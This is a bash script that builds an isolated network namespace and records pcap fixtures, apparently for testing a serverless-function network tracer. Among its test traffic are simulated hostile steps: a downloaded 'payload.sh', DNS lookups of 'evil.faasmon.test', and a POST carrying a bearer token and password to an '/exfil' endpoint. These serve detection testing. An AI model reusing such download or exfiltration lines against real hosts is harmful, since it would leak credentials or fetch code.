#!/usr/bin/env bash
# Regenerates the real captures in this directory. Run as root on Linux with
# tcpdump 4.99, curl and python3. Everything stays on a veth pair and a
# network namespace this script creates (fmpcap, 10.99.0.0/24, fd99::/64) and
# removes again; no packet leaves the machine.
set -euo pipefail
cd "$(dirname "$0")"
NS=fmpcap
CID1=1b2c3d4e-0000-4000-8000-000000000001
CID2=1b2c3d4e-0000-4000-8000-000000000002
CID3=1b2c3d4e-0000-4000-8000-000000000003
CID4=1b2c3d4e-0000-4000-8000-000000000004
WORK=$(mktemp -d)
PIDS=()
cleanup() {
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  ip netns del $NS 2>/dev/null || true
  ip link del fmpc0 2>/dev/null || true
  rm -rf "$WORK"
}
trap cleanup EXIT

ip netns add $NS
ip link add fmpc0 type veth peer name fmpc1
ip link set fmpc1 netns $NS
ip addr add 10.99.0.1/24 dev fmpc0
ip -6 addr add fd99::1/64 dev fmpc0 nodad
ip link set fmpc0 up
ip netns exec $NS ip link set lo up
ip netns exec $NS ip addr add 10.99.0.2/24 dev fmpc1
ip netns exec $NS ip -6 addr add fd99::2/64 dev fmpc1 nodad
ip netns exec $NS ip link set fmpc1 up
ip netns exec $NS ip route add default via 10.99.0.1

# "Function" side (inside the namespace): an HTTP server on 8080 and a fake
# resolver on its loopback. Host side: a fake resolver and an HTTP server the
# function downloads from.
mkdir -p "$WORK/www" "$WORK/host"
echo hello > "$WORK/www/index.html"
printf '#!/bin/sh\necho pwned\n' > "$WORK/host/payload.sh"
ip netns exec $NS python3 -m http.server 8080 --bind :: --directory "$WORK/www" >/dev/null 2>&1 & PIDS+=($!)
ip netns exec $NS python3 ./dnsd.py 127.0.0.1 & PIDS+=($!)
python3 -m http.server 8081 --bind 10.99.0.1 --directory "$WORK/host" >/dev/null 2>&1 & PIDS+=($!)
python3 ./dnsd.py 10.99.0.1 & PIDS+=($!)
sleep 1

# The captures, all inside the namespace, as the tracer runs tcpdump there.
ip netns exec $NS tcpdump -i any -U -s 256 -w sll2_any.pcap 2>/dev/null & PIDS+=($!)
ip netns exec $NS tcpdump -i any -y LINUX_SLL -U -s 256 -w sll1_any.pcap 2>/dev/null & PIDS+=($!)
ip netns exec $NS tcpdump -i fmpc1 -U -s 256 -w eth_veth.pcap 2>/dev/null & PIDS+=($!)
ip netns exec $NS tcpdump -i lo -U -s 256 -w lo.pcap 2>/dev/null & PIDS+=($!)
sleep 2

# 1. inbound invocation from the host (gateway) with a call id and a secret query string
curl -s -o /dev/null -H "X-Call-Id: $CID1" "http://10.99.0.2:8080/index.html?token=s3cret"
# 2. the same over IPv6
curl -s -o /dev/null -H "X-Call-Id: $CID2" "http://[fd99::2]:8080/v6/index.html"
# 3. watchdog-style proxy hop on the namespace's loopback
ip netns exec $NS curl -s -o /dev/null -H "X-Call-Id: $CID3" "http://127.0.0.1:8080/index.html"
# 4. outbound DNS (A and AAAA) to the host resolver, and one on loopback
ip netns exec $NS python3 ./dnsq.py 10.99.0.1 evil.faasmon.test A >/dev/null
ip netns exec $NS python3 ./dnsq.py 10.99.0.1 evil.faasmon.test AAAA >/dev/null
ip netns exec $NS python3 ./dnsq.py 127.0.0.1 local.faasmon.test A >/dev/null
# 5. outbound download and a POST whose body holds a credential (must not be kept)
ip netns exec $NS curl -s -o /dev/null "http://10.99.0.1:8081/payload.sh"
ip netns exec $NS curl -s -o /dev/null -X POST -H 'Authorization: Bearer TOPSECRET' \
  --data 'password=hunter2' "http://10.99.0.1:8081/exfil?k=v"
# 6. inbound request whose headers the 256-byte snap length cuts: X-Call-Id is
#    after a long cookie, so it is not captured whole
curl -s -o /dev/null -H "Cookie: session=$(printf 'a%.0s' $(seq 1 300))" \
  -H "X-Call-Id: $CID4" "http://10.99.0.2:8080/index.html"
sleep 2

# Derived inputs for the error paths.
chown root:root ./*.pcap 2>/dev/null || true
head -c 5000 sll2_any.pcap > truncated.pcap              # cut inside a packet record
head -c 4096 /dev/urandom > garbage.bin                    # no pcap header at all
{ head -c 24 sll2_any.pcap; head -c 4096 /dev/urandom; } > header_garbage.pcap  # valid header, random records
